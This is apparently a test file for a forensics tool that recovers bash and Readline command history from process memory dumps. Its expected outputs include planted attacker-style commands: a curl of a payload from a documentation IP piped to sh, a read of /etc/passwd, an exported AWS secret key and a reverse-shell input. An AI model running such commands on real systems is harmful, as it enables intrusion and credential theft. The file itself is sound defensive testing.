import test from 'ava';
import {PendingError} from '../../source/archive/byte-source.js';
import {recoverHistory} from '../../source/forensics/history/recover.js';
import {MadeHeap} from '../support/made-heap.js';
import {completeCheckpoint} from '../support/open-fixture.js';
import {dumpNames, fixture} from '../support/fixtures.js';
import {recovered, shortly} from '../support/recovered.js';

const bash = await completeCheckpoint(fixture('podman-bash'));

/** An entry as `add_history` makes it; its address. */
function entry(heap: MadeHeap, line: string, time: number | undefined, mark = '#'): bigint {
	return heap.words(heap.string(line), time === undefined ? 0n : heap.string(`${mark}${time}`), 0n);
}

/** The array of a history with these entries, and the variable that points to it. */
function list(heap: MadeHeap, entries: readonly bigint[]): void {
	heap.words(heap.words(...entries, 0n));
}

test('the commands of both shells of podman-bash, in the order typed, with their times', async t => {
	t.deepEqual(shortly(await recovered(bash.process(1)!)), [
		'1 id @1795224169',
		'2 uname -a @1795224170',
		'3 cat /etc/passwd | head -2 @1795224170',
		'4 export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG @1795224171',
		'5 curl -s http://198.51.100.7/payload.sh | sh @1795224172',
		'6 su @1795224173',
	]);
	t.deepEqual(shortly(await recovered(bash.process(10)!)), [
		'1 PS1=\'inner# \' @1795224173',
		'2 echo nested shell > /root/notes.txt @1795224174',
		'3 base64 -d <<< aGVsbG8K @1795224175',
		'4 loop.sh @1795224175',
	]);
});

test('an entry has the address of its HIST_ENTRY, and that of its text', async t => {
	const {memory} = bash.process(1)!;
	const {entries} = await recovered(bash.process(1)!);
	for (const {address, commandAddress, command} of entries) {
		const pointer = Buffer.alloc(8);
		memory.read(address, pointer);
		t.is(pointer.readBigUInt64LE(), commandAddress);
		const text = Buffer.alloc(command.length + 1);
		memory.read(commandAddress, text);
		t.is(text.toString('latin1'), `${command.toKey()}\0`);
	}
});

test('what was typed into the shell of a reverse shell', async t => {
	const checkpoint = await completeCheckpoint(fixture('fx-popen'));
	t.teardown(() => {
		checkpoint.close();
	});
	t.deepEqual(shortly(await recovered(checkpoint.process(19)!)), ['1 id; echo PLANT-REVSHELL-INPUT @1795226073']);
});

for (const name of dumpNames.filter(name => name !== 'podman-bash')) {
	test.serial(`${name}: no process has a history`, async t => {
		const checkpoint = await completeCheckpoint(fixture(name));
		for (const process of checkpoint.processes.filter(({hasMemory}) => hasMemory)) {
			t.deepEqual(shortly(await recovered(process)), []);
		}

		checkpoint.close();
	});
}

for (const [machine, format] of [
	['64-bit, little-endian', {wordSize: 8, order: 'little'}],
	['32-bit, little-endian', {wordSize: 4, order: 'little'}],
	['64-bit, big-endian', {wordSize: 8, order: 'big'}],
] as const) {
	test(`a history of ${machine} memory`, async t => {
		const heap = new MadeHeap(format);
		list(heap, [entry(heap, 'first', 1_700_000_000), entry(heap, 'second', 1_700_000_000), entry(heap, 'third', 1_600_000_000)]);
		t.deepEqual(shortly(await recovered(heap.process())), ['1 first @1700000000', '2 second @1700000000', '3 third @1600000000']);
	});
}

test('a program with GNU Readline that is not bash has a NUL before its times', async t => {
	const heap = new MadeHeap();
	list(heap, [entry(heap, 'import os', 1_700_000_000, '\0'), entry(heap, 'os.getpid()', 1_700_000_001, '\0')]);
	const {entries} = await recovered(heap.process());
	t.deepEqual(entries.map(({command, keeper, time}) => [String(command), keeper, time]), [['import os', 'readline', 1_700_000_000n], ['os.getpid()', 'readline', 1_700_000_001n]]);
});

test('an entry without a time, or with one of another form, is in its place between others', async t => {
	const heap = new MadeHeap();
	list(heap, [entry(heap, 'no time', undefined), entry(heap, 'one', 1_700_000_000), entry(heap, 'long ago', 86_400), entry(heap, 'none again', undefined)]);
	t.deepEqual(shortly(await recovered(heap.process())), ['1 no time', '2 one @1700000000', '3 long ago @86400', '4 none again']);
});

test('an entry that is in no list is a guess, and so is one whose list nothing points to', async t => {
	const heap = new MadeHeap();
	list(heap, [entry(heap, 'kept', 1_700_000_005)]);
	entry(heap, 'removed', 1_700_000_009);
	entry(heap, 'removed before', 1_700_000_001);
	t.deepEqual(shortly(await recovered(heap.process())), ['1 kept @1700000005', '- removed before @1700000001 (loose entry)', '- removed @1700000009 (loose entry)']);

	const loose = new MadeHeap();
	loose.words(entry(loose, 'a', 1_700_000_002), entry(loose, 'b', 1_700_000_001), 0n);
	t.deepEqual(shortly(await recovered(loose.process())), ['1 a @1700000002 (loose list)', '2 b @1700000001 (loose list)']);
});

test('what is left of an array that was moved is not a second list', async t => {
	const heap = new MadeHeap();
	const entries = Array.from({length: 5}, (_, index) => entry(heap, `command ${index + 1}`, 1_700_000_000 + index));
	// The old array was smaller, and something still points to it.
	list(heap, entries.slice(0, 3));
	list(heap, entries);
	const {entries: found} = await recovered(heap.process());
	t.deepEqual(found.map(({command}) => String(command)), ['command 1', 'command 2', 'command 3', 'command 4', 'command 5']);
	t.true(found.every(({source}) => source === 'list'));
});

test('a list may begin within its array: what stands before it was dropped', async t => {
	const heap = new MadeHeap();
	const array = heap.words(entry(heap, 'dropped', 1_700_000_000), entry(heap, 'kept', 1_700_000_001), 0n);
	heap.words(array + 8n);
	t.deepEqual(shortly(await recovered(heap.process())), ['1 kept @1700000001', '- dropped @1700000000 (loose entry)']);
});

test('lines of a history file in memory are guesses, but for those that a list has', async t => {
	const heap = new MadeHeap();
	list(heap, [entry(heap, 'typed', 1_700_000_000)]);
	heap.string('#1600000000\nfrom the file\n#1700000000\ntyped\n#1600000001\n#1600000002\nlast line');
	heap.string('#170000000\nno time\n#17000000000\nnone either\n#1x00000000\n');
	t.deepEqual(shortly(await recovered(heap.process())), ['1 typed @1700000000', '- from the file @1600000000 (text)', '- last line @1600000002 (text)']);
});

test('times that no entry points to are nothing', async t => {
	const heap = new MadeHeap();
	const time = heap.string('#1700000000');
	heap.words(time);
	heap.words(heap.string('line'), time, 1n);
	heap.words(0xdead_0000n, time, 0n);
	t.deepEqual(shortly(await recovered(heap.process())), []);
});

test('a command whose memory is not there has an entry all the same, and says why', async t => {
	const heap = new MadeHeap();
	const page = heap.newPage();
	const line = heap.string('lost with its page');
	heap.newPage();
	list(heap, [entry(heap, 'here', 1_700_000_000), heap.words(line, heap.string('#1700000001'), 0n), entry(heap, 'here too', 1_700_000_002)]);
	heap.lose(page, 'lazy');
	const {entries, lost} = await recovered(heap.process());
	t.deepEqual(entries.map(({number, command, missing, time}) => [number, String(command), missing, time]), [
		[1, 'here', undefined, 1_700_000_000n],
		[2, '', 'lazy', 1_700_000_001n],
		[3, 'here too', undefined, 1_700_000_002n],
	]);
	t.deepEqual([...lost], [['lazy', 4096n]]);
	heap.lose(page, 'pending');
	await t.throwsAsync(recovered(heap.process()), {instanceOf: PendingError});
});

test('a command of any bytes is as it was typed; one without an end is cut', async t => {
	const heap = new MadeHeap();
	const typed = 'printf "\x1b[2J\t\xff"\nsecond line';
	list(heap, [heap.words(heap.string(Buffer.from(typed, 'latin1')), heap.string('#1700000000'), 0n)]);
	const {entries} = await recovered(heap.process());
	t.is(entries[0]?.command.toKey(), typed);
	t.is(String(entries[0]?.command), 'printf "␛[2J␉\\xff"␊second line');
});

test('more than is to be looked at is said to be there', async t => {
	const heap = new MadeHeap();
	list(heap, Array.from({length: 20}, (_, index) => entry(heap, `command ${index}`, 1_700_000_000 + index)));
	t.false((await recovered(heap.process(), {most: 20})).isCut);
	t.true((await recovered(heap.process(), {most: 19})).isCut);
});

test('entries that all lead to one long text do not fill memory', async t => {
	const heap = new MadeHeap();
	const line = heap.string('x'.repeat(1000));
	list(heap, Array.from({length: 10}, (_, index) => heap.words(line, heap.string(`#${1_700_000_000 + index}`), 0n)));
	const {entries, isCut} = await recovered(heap.process(), {mostText: 5000});
	t.true(isCut);
	t.true(entries.reduce((sum, {command}) => sum + command.length, 0) <= 5000);
});

test('a list of thousands is found, in its order', async t => {
	const heap = new MadeHeap();
	const lines = Array.from({length: 1500}, (_, index) => `c${index * 7919 % 1500}`);
	list(heap, lines.map((line, index) => entry(heap, line, 1_700_000_000 - index)));
	const {entries} = await recovered(heap.process());
	t.deepEqual(entries.map(({command}) => String(command)), lines);
});

test('whoever stops the search gets no more of it', async t => {
	const stop = new AbortController();
	const steps = recoverHistory(bash.process(1)!, {signal: stop.signal});
	stop.abort();
	const step = await steps.next();
	t.true(step.done);
	t.deepEqual(step.done === true ? step.value.entries : undefined, []);
});
